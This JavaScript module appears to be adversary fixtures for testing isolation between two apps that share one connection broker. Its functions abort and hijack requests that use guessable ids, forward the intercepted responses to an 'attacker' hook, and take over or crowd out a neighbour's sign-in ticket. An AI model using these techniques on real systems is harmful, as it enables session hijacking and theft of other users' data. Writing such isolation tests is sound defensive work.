// Two apps with one holder. Each function runs in a page of one of them and stands alone.

/** Starts a call with ids that anybody could guess; `globalThis.slow` has what comes of it. */
export async function callSlowly(evil, { url }) {
  const ask = evil.asking(await evil.connect());
  globalThis.slow = ask("fetch", { url, headers: [] }).then(({ ok, error }) =>
    ok ? `${ok.status} ${new TextDecoder().decode(ok.body)}` : error.code,
  );
}

/** Ends, asks for and takes over whatever has the same ids on this page's own connection; what is answered goes to the attacker. */
export async function disturb(evil, { url }) {
  const port = await evil.connect();
  evil.hear(port, (answer) => evil.post(`${answer.id} ${evil.strings(answer).join(" ")}`));
  port.start();
  for (let id = 1; id <= 20; id += 1) {
    port.postMessage({ v: 1, id, op: "abort", target: id });
    port.postMessage({ v: 1, id, op: "fetch", url, headers: [] });
    if (id <= 10) port.postMessage({ v: 1, id, op: "abort", target: id });
  }
  await new Promise((resolve) => evil.hear(port, ({ id }) => id === 20 && resolve()));
  port.postMessage({ v: 1, id: 0, op: "see", visible: false, online: false });
  port.postMessage({ v: 1, id: 0, op: "bye" });
  const { line, ask } = await evil.borrow();
  for (let id = 0; id <= 20; id += 1) line.postMessage({ id, op: "abort", target: id });
  await ask("arrive", { ticket: "x" });
}

/** Goes for a visit of the neighbour's, whose ticket it knows: to replace it, to take what came back, and to crowd it out. */
export async function goForVisit(evil, { ticket, returnTo }) {
  const { ask } = await evil.borrow();
  const visit = { kind: "sign-in", popup: false, options: {}, returnTo, arrival: {} };
  const answers = [];
  const note = ({ ok, error }) => answers.push(error ? error.code : (ok.arrival ?? "ok"));
  note(await ask("begin", { ticket, visit }));
  note(await ask("arrive", { ticket }));
  for (let at = 0; at < 40; at += 1) await ask("begin", { ticket: `${at}`.padStart(43, "n"), visit });
  note(await ask("arrive", { ticket }));
  void ask("outcome", { ticket });
  return answers;
}
